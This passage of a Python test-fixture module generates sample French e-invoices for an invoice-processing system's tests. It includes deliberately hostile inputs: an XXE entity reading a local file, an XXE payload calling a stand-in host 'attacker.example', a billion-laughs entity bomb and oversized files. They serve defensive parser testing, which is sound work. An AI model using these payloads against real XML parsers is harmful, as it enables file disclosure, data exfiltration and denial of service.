        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<!DOCTYPE Invoice [<!ENTITY secret SYSTEM "file://{path}">]>\n',
    ).replace("<cbc:ID>XXE</cbc:ID>", "<cbc:ID>&secret;</cbc:ID>")
    return "xxe-file.xml", xml.encode()


def xxe_http(url: str = "http://attacker.example/collect") -> tuple[str, bytes]:
    """A CII invoice with an external parameter entity and an external entity over HTTP."""
    xml = cii_xml(invoice(number="XXE-HTTP")).decode()
    xml = xml.replace(
        '<?xml version="1.0" encoding="UTF-8"?>\n',
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<!DOCTYPE rsm:CrossIndustryInvoice [<!ENTITY % remote SYSTEM "{url}.dtd"> %remote;'
        f'<!ENTITY call SYSTEM "{url}">]>\n',
    ).replace("<ram:ID>XXE-HTTP</ram:ID>", "<ram:ID>&call;</ram:ID>")
    return "xxe-http.xml", xml.encode()


def billion_laughs(levels: int = 10) -> tuple[str, bytes]:
    """Entity expansion: 10 levels of 10 → 10**10 "lol"s if a parser expanded them."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, levels)
    ]
    xml = (
        '<?xml version="1.0"?>\n'
        f"<!DOCTYPE Invoice [{''.join(entities)}]>\n"
        '<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2" '
        'xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">'
        f"<cbc:ID>&lol{levels - 1};</cbc:ID></Invoice>\n"
    )
    return "billion-laughs.xml", xml.encode()


def huge_file(size: int) -> tuple[str, bytes]:
    """A well-formed UBL invoice padded past `size` bytes (a note of spaces and words)."""
    name, xml = ubl_invoice(number="HUGE")
    padding = b"<!-- " + b"padding " * (size // 8 + 1) + b"-->"
    return "huge.xml", xml.replace(b"<cbc:ID>HUGE", padding + b"<cbc:ID>HUGE", 1)


def huge_inside_pdf(size: int) -> tuple[str, bytes]:
    """A small Factur-X PDF whose embedded XML (compressed) is larger than `size` bytes."""
    _name, xml = huge_file(size)
    return "huge-inside.pdf", facturx_pdf(xml, check_xsd=False)


def pdf_with(xml: bytes, *, name: str = "factur-x.xml") -> tuple[str, bytes]:
    """A PDF carrying `xml` as an attachment as it is (pypdf: nothing parses it on the way)."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_attachment(name, xml)
    buffer = io.BytesIO()
    writer.write(buffer)
    return "attached.pdf", buffer.getvalue()


def pdf_without_xml() -> tuple[str, bytes]:
    return "scan.pdf", blank_pdf()


def not_an_invoice() -> tuple[str, bytes]:
    """Well-formed XML that is no invoice: an RSS feed."""
    return "feed.xml", (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel>'
        b"<title>Actualit\xc3\xa9s</title><link>https://example.com/</link>"
        b"<item><title>Nouvelle facture</title><description>1 234,00 EUR</description></item>"
        b"</channel></rss>\n"
    )


def order_x() -> tuple[str, bytes]:
    """An Order-X purchase order: CII vocabulary, but an order, not an invoice."""
    return "order-x.xml", (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<rsm:SCRDMCCBDACIOMessageStructure xmlns:rsm="urn:un:unece:uncefact:data:'
        b'SCRDMCCBDACIOMessageStructure:100" xmlns:ram="urn:un:unece:uncefact:data:standard:'
        b'ReusableAggregateBusinessInformationEntity:100"><rsm:ExchangedDocument>'
        b"<ram:ID>PO-4411</ram:ID><ram:TypeCode>220</ram:TypeCode></rsm:ExchangedDocument>"
        b"</rsm:SCRDMCCBDACIOMessageStructure>\n"
    )


def totals_off() -> tuple[str, bytes]:
    """A CII invoice whose stated totals do not add up: lines 45.00 but a total of 50.00 and
    an amount due of 65.00 (54.00 with tax)."""
    return cii_invoice(
        supplier=DUPONT,
        number="FA-2026-0099",
        items=(Item("Ramette papier A4", Decimal(10), Decimal("4.50")),),
        stated={"line_total": Decimal("50.00"), "payable": Decimal("65.00")},
    )


def non_number_amount() -> tuple[str, bytes]:
    """A UBL invoice whose amount due is written "54,00 EUR"."""
    name, xml = ubl_invoice(number="FA-2026-0100")
    xml = xml.replace(
        b'<cbc:PayableAmount currencyID="EUR">54.00</cbc:PayableAmount>',
        b'<cbc:PayableAmount currencyID="EUR">54,00 EUR</cbc:PayableAmount>',
    )
    return "not-a-number.xml", xml


HOSTILE = {
    "xxe_file": xxe_file,
    "xxe_http": xxe_http,
    "billion_laughs": billion_laughs,
    "pdf_without_xml": pdf_without_xml,
    "not_an_invoice": not_an_invoice,
    "order_x": order_x,
    "non_number_amount": non_number_amount,
}


# --- many different ones ------------------------------------------------------------------

_CATALOGUE = (
    ("Ramette papier A4 80 g", Decimal("4.50"), Decimal("20")),
    ("Café en grains 1 kg", Decimal("18.40"), Decimal("5.5")),
    ("Heure de maintenance", Decimal("65.00"), Decimal("20")),
    ("Repas d'affaires", Decimal("24.90"), Decimal("10")),
    ("Abonnement logiciel mensuel", Decimal("29.00"), Decimal("20")),
    ("Livres techniques", Decimal("42.00"), Decimal("5.5")),
    ("Transport de marchandises", Decimal("150.00"), Decimal("10")),
    ("Nettoyage des locaux", Decimal("320.00"), Decimal("20")),
)


def mixed(count: int = 100, *, start: int = 1) -> list[tuple[str, bytes]]:
    """`count` different e-invoices: Factur-X PDFs, CII and UBL invoices and UBL credit notes
    in turn, from every supplier, with 1 to 4 lines; deterministic (the same every time)."""
    makers = (facturx_invoice, cii_invoice, ubl_invoice, ubl_invoice, cii_invoice, ubl_credit_note)
    files = []
    for index in range(start, start + count):
        supplier = SUPPLIERS[index % len(SUPPLIERS)]
        foreign = supplier.country != "FR"
        items = []
        for k in range(1 + index % 4):
            name, price, rate = _CATALOGUE[(index + 3 * k) % len(_CATALOGUE)]
            item = Item(name, Decimal(1 + (index * 7 + k) % 9), price, rate=rate)
            if foreign:
                item = replace(
                    item, rate=Decimal(0), category="AE" if supplier.country != "GB" else "G"
                )
            items.append(item)
        maker = makers[index % len(makers)]
        prefix = "AV" if maker is ubl_credit_note else "F"
        issue = date(2026, 1, 5) + timedelta(days=index % 80)
        files.append(
            maker(
                supplier=supplier,
                number=f"{prefix}-2026-{index:05d}",
                items=items,
                issue_date=issue,
                due_date=issue + timedelta(days=30),
                currency="GBP" if supplier.country == "GB" else "EUR",
                exemption_reason="Autoliquidation" if foreign else "",
            )
        )
    return files


def valid_vat(number: str) -> bool:
    """For tests of this module: stdnum agrees the number is valid (GB by its own module)."""
    from stdnum.gb import vat as gb

    return eu_vat.is_valid(number) or (number.startswith("GB") and gb.is_valid(number[2:]))
